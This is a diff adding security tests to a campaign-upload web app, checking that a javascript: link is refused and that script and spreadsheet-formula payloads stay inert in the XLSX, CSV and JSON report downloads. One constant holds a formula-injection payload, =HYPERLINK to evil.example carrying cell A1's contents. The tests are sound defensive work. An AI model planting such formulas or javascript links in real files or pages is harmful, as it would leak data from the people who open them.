@@ -209,3 +209,81 @@ def _inert(html: str) -> None:
     assert "<script>alert" not in html
     assert "<img src=x" not in html
     assert 'href="javascript:' not in html.replace(" ", "")
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?c="&A1,"open")'
+
+
+def test_a_javascript_link_in_a_campaign_is_refused_at_its_line_and_shown_inert(
+    ws: Workspace,
+) -> None:
+    text = (EXAMPLES / "germany.yaml").read_text(encoding="utf-8")
+    hostile = text.replace(
+        "link: https://www.gov.kz/memleket/entities/mfa-berlin", "link: javascript:alert(4)", 1
+    )
+    client = ws.client("anna")
+    before = _counts(ws), _audit_count(ws)
+    response = _upload(client, "germany.yaml", hostile.encode())
+    page = response.get_data(as_text=True)  # type: ignore[attr-defined]
+    assert response.status_code == 422  # type: ignore[attr-defined]
+    line = hostile.splitlines().index("    link: javascript:alert(4)") + 1
+    assert f'id="L{line}"' in page and "nothing was changed" in page
+    _inert(page)
+    assert 'href="javascript' not in page.replace(" ", "").lower()
+    assert (_counts(ws), _audit_count(ws)) == before
+
+
+def test_every_download_keeps_hostile_text_inert(ws: Workspace) -> None:
+    """A campaign whose title, audience and text carry script and a spreadsheet formula: the
+    campaign file comes back as the bytes uploaded (an attachment, never rendered); in the
+    report's XLSX no cell is a formula, in its CSV no field starts a formula, and JSON is
+    served as JSON; each an attachment with nosniff."""
+    import io
+    import json
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    hostile = _hostile_campaign().replace(f'title: "{PAYLOAD}"', f"title: '{FORMULA}{PAYLOAD}'")
+    hostile = hostile.replace(f'name: "{IMG}"', f"name: '{FORMULA}'")
+    client = ws.client("anna")
+    media = {p.name: p.read_bytes() for p in (EXAMPLES / "media").glob("*.png")}
+    response = _upload(client, "hostile.yaml", hostile.encode(), **media)
+    assert response.status_code == 302  # type: ignore[attr-defined]
+    upload_id = response.headers["Location"].rsplit("/", 1)[-1]  # type: ignore[attr-defined]
+    post_form(client, f"/campaigns/uploads/{upload_id}/apply", {}, page="/campaigns")
+    manager = ws.client("admin")
+
+    download = manager.get("/campaigns/de-2027-gateway/file")
+    assert download.data == hostile.encode()
+    assert download.headers["Content-Disposition"].startswith("attachment")
+    texts: list[str] = []
+    for fmt, mimetype in (
+        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+        ("csv", "application/zip"),
+        ("json", "application/json"),
+    ):
+        got = manager.get(f"/reports/download.{fmt}?campaign=de-2027-gateway")
+        assert got.status_code == 200, fmt
+        assert got.headers["Content-Type"].startswith(mimetype), fmt
+        assert got.headers["Content-Disposition"].startswith("attachment"), fmt
+        assert got.headers["X-Content-Type-Options"] == "nosniff"
+        if fmt == "xlsx":
+            book = load_workbook(io.BytesIO(got.data))
+            for sheet in book.worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                        if isinstance(cell.value, str):
+                            texts.append(cell.value)
+        elif fmt == "csv":
+            with zipfile.ZipFile(io.BytesIO(got.data)) as archive:
+                for name in archive.namelist():
+                    body = archive.read(name).decode("utf-8")
+                    for field in (f for line in body.splitlines() for f in line.split(",")):
+                        assert not field.strip('"').startswith(("=", "+", "@")), (name, field)
+                    texts.append(body)
+        else:
+            texts.append(json.dumps(got.json))
+    # The payload is there, as text (the report names the campaign), not dropped.
+    assert any("HYPERLINK" in t for t in texts)
